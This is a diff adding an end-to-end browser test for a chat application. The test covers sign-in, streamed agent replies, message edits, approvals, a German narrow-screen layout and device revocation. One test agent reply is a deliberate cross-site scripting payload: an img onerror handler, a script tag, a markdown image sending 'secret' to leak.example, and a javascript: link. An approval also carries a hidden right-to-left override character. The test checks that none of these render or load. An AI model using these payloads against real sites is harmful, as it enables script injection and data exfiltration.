@@ -1,0 +1,194 @@
+// A person's way through the app, in a real browser, against a real cluster.
+import assert from "node:assert/strict";
+import { after, before, test } from "node:test";
+import { Agent } from "@blindpipe/client/agent";
+import { devCluster } from "@blindpipe/client/testing";
+import { appOf, AXE, findBrowser, isAccessible, newPage, openAgent, PASSWORD, register, say, startBrowser } from "./support.mjs";
+
+const program = findBrowser();
+const skip = program ? false : "no Chromium is here: `target/debug/devcluster fetch` gets one";
+
+let cluster;
+let browser;
+let stopAgent = async () => {};
+
+before(async () => {
+  if (!program) return;
+  cluster = await devCluster();
+  browser = await startBrowser(program, cluster.nodes[0]);
+});
+
+after(async () => {
+  await stopAgent();
+  await browser?.close();
+});
+
+/** An agent that streams, asks, and is told in markdown what would leak if it were loaded. */
+async function startAgent(owner) {
+  const options = await cluster.agent("Robot", owner);
+  const agent = new Agent(options);
+  agent.on("message", async (ctx) => {
+    if (ctx.text === "hostile") {
+      await ctx.reply({
+        type: "text",
+        format: "markdown",
+        text: '<img src=x onerror=alert(1)><script>alert(2)</script> ![a picture](https://leak.example/?q=secret) [a link](https://example.org/path) [bad](javascript:alert(3))',
+      });
+      return;
+    }
+    if (ctx.text === "deploy") {
+      await ctx.approve("deploy", { version: "1.4.2\u202e" }, { text: "Deploy 1.4.2?" });
+      return;
+    }
+    const stream = ctx.stream();
+    for (const word of ["One ", "two ", "**three**"]) {
+      await stream.write(word);
+      await new Promise((resolve) => setTimeout(resolve, 150));
+    }
+    await stream.end();
+  });
+  agent.onDecision("deploy", (ctx) => ctx.reply(`Decided: ${ctx.decision.outcome}`));
+  const stopping = new AbortController();
+  const running = agent.run({ signal: stopping.signal });
+  stopAgent = async () => {
+    stopping.abort();
+    await running;
+  };
+  return options.agentId;
+}
+
+test("a person registers, chats, approves, and reads on in a second browser", { skip, timeout: 120_000 }, async (t) => {
+  const owner = await cluster.user("owner");
+  const agentId = await startAgent(owner.client);
+  const { page, context, faults } = await newPage(browser);
+  page.setDefaultTimeout(10_000);
+  await context.addInitScript(AXE);
+  const email = `ada-${Date.now()}@example.com`;
+  let protectionPassword;
+
+  await t.test("the sign-in is accessible and refuses a wrong password in words", async () => {
+    await page.goto(appOf(cluster));
+    await page.getByLabel("E-mail").fill(email);
+    await page.getByLabel("Password").fill("wrong password 1");
+    await page.getByRole("button", { name: "Sign in" }).click();
+    await page.getByText("The e-mail or the password is wrong.").waitFor();
+    await isAccessible(page, "sign-in");
+  });
+
+  await t.test("an account is made, and its keys", async () => {
+    protectionPassword = (await register(page, cluster, email, "Ada")).protectionPassword;
+    await isAccessible(page, "conversations");
+  });
+
+  await t.test("an answer is seen while it is written, and stands as one message", async () => {
+    await openAgent(page, cluster, agentId);
+    await say(page, "hello");
+    await page.locator("article.live").waitFor();
+    await page.locator("article.message:not(.live) strong", { hasText: "three" }).waitFor();
+    assert.equal(await page.locator("article.live").count(), 0);
+    await isAccessible(page, "conversation");
+  });
+
+  await t.test("text stays text, and nothing foreign is loaded", async () => {
+    const asked = [];
+    page.on("request", (request) => asked.push(request.url()));
+    await say(page, "hostile");
+    await page.locator(".feed").getByText("a picture").waitFor();
+    assert.equal(await page.locator(".messages img, .messages script").count(), 0);
+    assert.equal(await page.locator(".messages a[href^='javascript']").count(), 0);
+    await page.locator(".feed").getByText("(example.org)").waitFor();
+    assert.deepEqual(asked.filter((url) => !url.startsWith(new URL(appOf(cluster)).origin)), []);
+  });
+
+  await t.test("a message is edited, reacted to, and deleted", async () => {
+    await say(page, "first words");
+    const own = page.locator("article.own", { hasText: "first words" });
+    await own.getByRole("button", { name: "Edit" }).click();
+    await say(page, "better words");
+    await page.locator("article.own", { hasText: "better words" }).getByText("edited").waitFor();
+    const edited = page.locator("article.own", { hasText: "better words" });
+    await edited.getByRole("button", { name: "React 👍" }).click();
+    await edited.getByRole("button", { name: "React 👍 1" }).waitFor();
+    await edited.getByRole("button", { name: "Delete" }).click();
+    await page.getByRole("dialog").getByRole("button", { name: "Go on" }).click();
+    await page.getByText("This message was deleted.").waitFor();
+    assert.equal(await page.getByText("better words").count(), 0);
+  });
+
+  await t.test("an approval shows its exact arguments, and is decided", async () => {
+    await say(page, "deploy");
+    await page.getByRole("link", { name: /Approvals/ }).locator(".count").waitFor();
+    await page.getByRole("navigation").getByRole("link", { name: /Approvals/ }).click();
+    await page.getByText("Deploy 1.4.2?").waitFor();
+    await page.locator("pre.json", { hasText: "1.4.2\\u202e" }).waitFor();
+    await isAccessible(page, "approvals");
+    await page.getByRole("button", { name: "Approve" }).click();
+    await page.getByText("Nothing waits for you.").waitFor();
+    await page.getByText("approved").waitFor();
+    await page.getByRole("link", { name: "Conversations" }).click();
+    await page.locator(".list a", { hasText: "Robot" }).click();
+    await page.locator(".feed").getByText("Decided: approved").waitFor();
+  });
+
+  await t.test("a reload goes on without a password", async () => {
+    await page.reload();
+    await page.locator(".feed").getByText("Decided: approved").waitFor();
+  });
+
+  await t.test("in German, on a page of 320 pixels, nothing is cut off", async () => {
+    const session = await context.newCDPSession(page);
+    const userAgent = await page.evaluate(() => navigator.userAgent);
+    await session.send("Emulation.setUserAgentOverride", { userAgent, acceptLanguage: "de-DE,de" });
+    const before = page.url();
+    await page.setViewportSize({ width: 320, height: 640 });
+    await page.reload();
+    const screens = ["approvals", "agents", "settings", "settings/sign-in", "settings/devices", "settings/reads", ""];
+    for (const screen of screens) {
+      await page.goto(`${appOf(cluster)}#/${screen}`);
+      await page.locator("h1").first().waitFor();
+      await page.waitForTimeout(100);
+      const wide = await page.evaluate(() =>
+        [...document.querySelectorAll("html, nav, main, .page, .list")]
+          .filter(({ scrollWidth, clientWidth }) => scrollWidth > clientWidth + 1)
+          .map((element) => `${element.className || element.tagName}: ${element.scrollWidth}`),
+      );
+      assert.deepEqual(wide, [], screen);
+    }
+    await page.getByRole("link", { name: "Einstellungen" }).waitFor();
+    await isAccessible(page, "the list, in German");
+    await session.send("Emulation.setUserAgentOverride", { userAgent, acceptLanguage: "en-GB" });
+    await page.setViewportSize({ width: 1280, height: 720 });
+    await page.goto(before);
+    await page.reload();
+    await page.locator(".feed").getByText("Decided: approved").waitFor();
+  });
+
+  await t.test("a second browser restores the keys, reads everything, and ends when it is revoked", async () => {
+    const second = await newPage(browser);
+    await second.page.goto(appOf(cluster));
+    await second.page.getByLabel("E-mail").fill(email);
+    await second.page.getByLabel("Password").fill(PASSWORD);
+    await second.page.getByRole("button", { name: "Sign in" }).click();
+    await second.page.getByLabel("Protection password").fill("not the password");
+    await second.page.getByRole("button", { name: "Go on" }).click();
+    await second.page.getByText("This password opens no backup.").waitFor();
+    await second.page.getByLabel("Protection password").fill(protectionPassword);
+    await second.page.getByRole("button", { name: "Go on" }).click();
+    await second.page.locator(".list a", { hasText: "Robot" }).click();
+    await second.page.locator("strong", { hasText: "three" }).first().waitFor();
+
+    await page.getByRole("link", { name: "Settings" }).click();
+    await page.getByRole("link", { name: "Devices and sign-ins" }).click();
+    await page.getByRole("button", { name: "Revoke" }).click();
+    await page.getByRole("dialog").getByRole("button", { name: "Go on" }).click();
+    await second.page.getByRole("heading", { name: "Sign in" }).waitFor();
+    assert.deepEqual(second.faults, []);
+    await second.context.close();
+  });
+
+  await t.test("every page kept to the policy, and no script failed", () => {
+    assert.deepEqual(faults, []);
+  });
+
+  await context.close();
+});
